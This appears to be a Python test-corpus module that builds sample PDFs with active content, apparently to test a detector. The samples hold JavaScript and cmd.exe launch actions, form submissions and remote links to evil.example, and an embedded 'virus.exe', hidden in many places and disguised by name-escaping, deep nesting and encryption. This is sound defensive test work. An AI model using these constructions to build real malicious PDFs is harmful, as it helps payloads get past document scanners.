"""PDFs that would do something: run a script, launch a program, carry a file, call home."""

from functools import partial

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream, String

from tests.documents.builders import make_pdf
from tests.documents.corpus.case import pdf
from tests.documents.corpus.honest_pdfs import incremental

ACTIVE = "active_content"


def anew(value):
    """A copy that no PDF owns yet: pikepdf refuses to share objects."""
    return pikepdf.Object.parse(value.unparse(resolved=True))


def on_catalog(key, value):
    return lambda pdf: pdf.Root.__setitem__(key, anew(value))


def on_page(key, value):
    return lambda pdf: pdf.pages[0].obj.__setitem__(key, anew(value))


def on_annotation(**keys):
    return on_page("/Annots", Array([Dictionary(Type=Name.Annot, Rect=[0, 0, 9, 9], **keys)]))


def on_field(**keys):
    field = Dictionary(FT=Name.Tx, T=String("a"), Kids=[Dictionary(T=String("b"), **keys)])
    return on_catalog("/AcroForm", Dictionary(Fields=[field]))


def attach(pdf):
    pdf.attachments["virus.exe"] = b"MZ"


def associate(pdf):
    """PDF/A-3, as for invoices that carry their XML."""
    spec = Dictionary(Type=Name.Filespec, F=String("a.xml"), EF=Dictionary(F=Stream(pdf, b"<a/>")))
    pdf.Root.AF = Array([spec])


def chain(pdf):
    """Fifty movements in the document, then a script."""
    action = anew(SCRIPT)
    for _ in range(50):
        action = Dictionary(S=Name.GoTo, D=String("a"), Next=Array([action]))
    pdf.Root.OpenAction = action


def chained_address(pdf):
    last = pdf.make_indirect(anew(URI))
    first = pdf.make_indirect(Dictionary(S=Name.GoTo, D=String("a"), Next=Array([last])))
    last.Next = first  # and round again
    pdf.Root.OpenAction = first


def script_of_a_stream(pdf):
    pdf.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=Stream(pdf, b"app.alert(1)"))


def script_of_a_template(pdf):
    """A hidden page, in no tree of pages."""
    page = Dictionary(Type=Name.Template, AA=Dictionary(O=SCRIPT))
    pdf.Root.Names = anew(Dictionary(Templates=Dictionary(Names=[String("a"), page])))


def script_of_a_form_in_a_form(pdf):
    inner = Stream(pdf, b"", Type=Name.XObject, Subtype=Name.Form, Odd=anew(SCRIPT))
    outer = Stream(pdf, b"/A Do", Resources=Dictionary(XObject=Dictionary(A=inner)))
    pdf.pages[0].Resources = Dictionary(XObject=Dictionary(B=outer))


def script_of_a_thread(pdf):
    pdf.Root.Outlines = anew(
        Dictionary(First=Dictionary(Next=Dictionary(Next=Dictionary(A=SCRIPT))))
    )


def deep(pdf):
    """A script under 400 dictionaries."""
    value = anew(SCRIPT)
    for _ in range(400):
        value = Dictionary(A=value)
    pdf.Root.Deep = value


def of_kind_elsewhere(pdf):
    """The kind of the action is an object of its own."""
    kind = pdf.make_indirect(Name.Launch)
    pdf.Root.OpenAction = Dictionary(S=kind, F=String("cmd.exe"))


def escaped(make, plain, hidden):
    def build():
        content = make().replace(plain, hidden)
        assert hidden in content
        return content

    return build


SCRIPT = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
LAUNCH = Dictionary(S=Name.Launch, F=String("cmd.exe"))
URI = Dictionary(S=Name.URI, URI=String("https://evil.example/"))
REMOTE = Dictionary(S=Name.GoToR, F=String("\\\\evil.example\\a.pdf"), D=[0, Name.Fit])
SUBMIT = Dictionary(S=Name.SubmitForm, F=String("https://evil.example/"))
NAMED = Dictionary(JavaScript=Dictionary(Names=[String("a"), SCRIPT]))
KIDS = Dictionary(JavaScript=Dictionary(Kids=[Dictionary(Names=[String("a"), SCRIPT])]))

CHANGES = {
    "a named script": on_catalog("/Names", NAMED),
    "a named script under kids": on_catalog("/Names", KIDS),
    "a script at the opening": on_catalog("/OpenAction", SCRIPT),
    "a script in a stream": script_of_a_stream,
    "a script after fifty movements": chain,
    "a script of the catalog's events": on_catalog("/AA", Dictionary(WC=SCRIPT)),
    "a script of a page": on_page("/AA", Dictionary(O=SCRIPT)),
    "a script of a link": on_annotation(Subtype=Name.Link, A=SCRIPT),
    "a script of an annotation": on_annotation(Subtype=Name.Text, AA=Dictionary(E=SCRIPT)),
    "a script of a field's key": on_field(AA=Dictionary(K=SCRIPT)),
    "a script of a field's calculation": on_field(AA=Dictionary(C=SCRIPT)),
    "a script of a bookmark": on_catalog("/Outlines", Dictionary(First=Dictionary(A=SCRIPT))),
    "a script of a bookmark further": script_of_a_thread,
    "a script without its code": on_catalog("/OpenAction", Dictionary(S=Name.JavaScript)),
    "a script without its kind": on_catalog("/OpenAction", Dictionary(JS=String("a()"))),
    "a script of a hidden page": script_of_a_template,
    "a script deep inside": deep,
    "a script in a drawing": script_of_a_form_in_a_form,
    "an address of script": on_annotation(A=Dictionary(S=Name.URI, URI=String("javascript:a()"))),
    "an address of script, in capitals": on_annotation(
        A=Dictionary(S=Name.URI, URI=String(" JavaScript:a()"))
    ),
    "a launch at the opening": on_catalog("/OpenAction", LAUNCH),
    "a launch by a link": on_annotation(Subtype=Name.Link, A=LAUNCH),
    "a launch whose kind is elsewhere": of_kind_elsewhere,
    "an address at the opening": on_catalog("/OpenAction", URI),
    "an address on a page": on_page("/AA", Dictionary(O=URI)),
    "an address after a movement, in a ring": chained_address,
    "another file at the opening": on_catalog("/OpenAction", REMOTE),
    "another file on a page": on_page("/AA", Dictionary(O=REMOTE)),
    "a form sent at the opening": on_catalog("/OpenAction", SUBMIT),
    "an embedded file opened": on_annotation(A=Dictionary(S=Name.GoToE, D=[0, Name.Fit])),
    "data imported": on_annotation(A=Dictionary(S=Name.ImportData, F=String("a.fdf"))),
    "an embedded file": attach,
    "PDF/A-3": associate,
    "XFA": on_catalog("/AcroForm", Dictionary(Fields=[], XFA=String("<xdp/>"))),
    "an attached file": on_annotation(Subtype=Name.FileAttachment),
    "rich media": on_annotation(Subtype=Name.RichMedia),
    "a film": on_annotation(Subtype=Name.Movie),
    "a sound": on_annotation(Subtype=Name.Sound),
    "a screen": on_annotation(Subtype=Name.Screen),
    "3D": on_annotation(Subtype=Name("/3D")),
    "a rendition": on_annotation(A=Dictionary(S=Name.Rendition, OP=0)),
}

GENERATE = pikepdf.ObjectStreamMode.generate
DISABLE = pikepdf.ObjectStreamMode.disable
LAUNCHING = partial(make_pdf, change=on_catalog("/OpenAction", LAUNCH), object_stream_mode=DISABLE)
SCRIPTED = partial(make_pdf, change=on_catalog("/OpenAction", SCRIPT), object_stream_mode=DISABLE)
LOCK = pikepdf.Encryption(owner="secret", user="")

CASES = [
    *(pdf(label, partial(make_pdf, change=change), ACTIVE) for label, change in CHANGES.items()),
    *(
        pdf(
            f"{label}, in a stream of objects",
            partial(make_pdf, change=CHANGES[label], object_stream_mode=GENERATE),
            ACTIVE,
        )
        for label in ("a named script", "an embedded file", "XFA", "a launch at the opening")
    ),
    pdf("/L#61unch", escaped(LAUNCHING, b"/Launch", b"/L#61unch"), ACTIVE),
    pdf("/#4aava#53cript", escaped(SCRIPTED, b"/JavaScript", b"/#4aava#53cript"), ACTIVE),
    pdf("/J#53", escaped(SCRIPTED, b"/JS", b"/J#53"), ACTIVE),
    pdf("/Open#41ction", escaped(LAUNCHING, b"/OpenAction", b"/Open#41ction"), ACTIVE),
    pdf("locked by its owner", partial(make_pdf, change=attach, encryption=LOCK), ACTIVE),
    pdf("linearized", partial(make_pdf, change=CHANGES["a named script"], linearize=True), ACTIVE),
    pdf("with updates after", incremental(SCRIPTED), ACTIVE),
]
